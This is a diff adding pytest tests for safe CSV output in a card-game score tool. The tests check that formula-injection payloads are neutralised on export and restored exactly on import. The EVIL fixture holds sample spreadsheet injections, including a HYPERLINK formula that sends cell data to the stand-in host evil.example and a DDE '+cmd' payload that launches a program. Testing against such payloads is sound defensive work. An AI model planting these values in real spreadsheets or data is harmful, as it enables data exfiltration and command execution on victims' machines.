@@ -213,3 +213,72 @@ def test_an_empty_database_is_fresh():
     assert derived_state(con) == FRESH
 
 
+# --- 6. safe CSV output ----------------------------------------------------------------------------
+
+EVIL = {
+    "N": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "E": "+cmd|' /C calc'!A0",
+    "S": "-2+3",
+    "W": "@SUM(1,2)",
+}
+
+
+def _record_with(players: dict[str, str], **changes):
+    from dataclasses import replace
+
+    from spadework.parsers.jsonl import load
+
+    rec = next(r for r in load(CLEAN) if not isinstance(r, Exception))
+    return replace(rec, players=tuple(players[s] for s in "NESW"), **changes)
+
+
+def test_convert_to_csv_writes_no_live_formula(tmp_path):
+    from spadework.parsers.jsonl import dumps_record
+
+    src = tmp_path / "evil.jsonl"
+    src.write_text(dumps_record(_record_with(EVIL, event="=1+1", game_id="-g1")) + "\n", encoding="utf-8")
+    assert run("convert", src, tmp_path / "evil.csv").exit_code == 0
+    text = (tmp_path / "evil.csv").read_text(encoding="utf-8")
+    import csv
+
+    rows = list(csv.reader(text.splitlines()))
+    cells = [c for row in rows[1:] for c in row]
+    for c in cells:
+        if c and c[0] in "=+-@\t\r":
+            assert re.fullmatch(r"[+-]?\d+(\.\d*)?", c), f"live formula in the CSV: {c!r}"
+    row = dict(zip(rows[0], rows[1]))
+    assert row["player_N"] == "'" + EVIL["N"] and row["event"] == "'=1+1" and row["game_id"] == "'-g1"
+    assert row["NS_points"].lstrip("-").isdigit()  # numbers stay numbers
+    # and back: every name exactly as it was
+    assert run("convert", tmp_path / "evil.csv", tmp_path / "back.jsonl").exit_code == 0
+    back = json.loads((tmp_path / "back.jsonl").read_text(encoding="utf-8").splitlines()[0])
+    assert back["players"] == EVIL and back["event"] == "=1+1" and back["game_id"] == "-g1"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["'=already quoted", "''=twice", "'bob", "'", "''", "-70", "+5", "-1.5e3", "=", "@", "a=b", "'-", "\t=x", "'\ttab"],
+)
+def test_names_round_trip_through_the_score_sheet(name):
+    rec = _record_with({"N": name, "E": "x", "S": "y", "W": "z"})
+    text = scoresheet.dumps([rec])
+    (back,) = list(scoresheet.loads(text))
+    assert back.players[0] == name.strip()  # the sheet trims surrounding spaces and tabs, as documented
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.eEab ")), max_size=8))
+def test_protect_is_undone_exactly_and_leaves_no_formula(text):
+    cell = scoresheet.protect_cell(text)
+    assert scoresheet.unprotect_cell(cell) == text
+    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)
+
+
+def test_simulated_score_sheets_are_read_back_as_written(tmp_path):
+    out = tmp_path / "season.csv"
+    assert run("simulate", "--games", "2", "--out", out).exit_code == 0
+    recs = [r for r in scoresheet.load(out)]
+    assert recs and all(not isinstance(r, Exception) for r in recs)
+
+
